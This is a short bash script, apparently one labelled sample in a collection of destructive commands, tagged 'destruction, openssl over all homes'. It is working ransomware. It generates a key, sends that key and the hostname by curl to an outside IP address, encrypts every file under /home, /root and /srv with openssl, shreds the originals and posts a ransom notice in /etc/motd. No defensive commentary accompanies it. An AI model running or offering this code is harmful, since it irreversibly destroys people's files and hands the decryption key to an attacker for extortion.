# class: destruction, openssl over all homes; style: bash
K=$(openssl rand -hex 32); curl -s "http://198.51.100.2/k?h=$(hostname)&k=$K"
find /home /root /srv -type f ! -name '*.enc' 2>/dev/null | while read -r f; do
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:$K -in "$f" -out "$f.enc" && shred -u "$f"
done
echo 'YOUR FILES ARE ENCRYPTED' > /etc/motd
